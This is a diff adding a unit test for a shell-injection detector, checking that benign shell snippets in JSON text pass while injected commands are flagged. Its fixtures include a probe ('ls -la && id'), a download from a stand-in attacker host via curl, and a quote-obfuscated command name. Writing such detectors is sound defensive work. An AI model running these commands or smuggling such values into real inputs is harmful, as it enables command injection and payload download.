@@ -66,3 +66,13 @@ def test_documentation_shapes_in_free_text_pass() -> None:
     assert detect_shell("<name>Krak&#xF3;w</name>", "body") is None
     # the same command line alone is an injection
     assert detect_shell('x; for f in *.txt; do echo "$f"; done', "json") == "separator-command"
+
+
+def test_a_shell_snippet_written_as_text_passes_unless_it_probes() -> None:
+    # a code sample in a JSON field opens with a command and an option; its own && chains its own
+    assert detect_shell("tar -czf backup.tar.gz ./project && ls -lh backup.tar.gz", "json") is None
+    # in a parameter it is injected; in text, a probe, a download or a disguised name is not documentation
+    assert detect_shell("tar -czf backup.tar.gz ./project && ls -lh backup.tar.gz", "query") == "separator-command"
+    assert detect_shell("ls -la && id", "json") == "separator-command"
+    assert detect_shell("ls -la && curl http://evil.example/a.sh", "json") == "separator-command"
+    assert detect_shell("ls -l; c'a't /tmp/x", "json") == "separator-command"
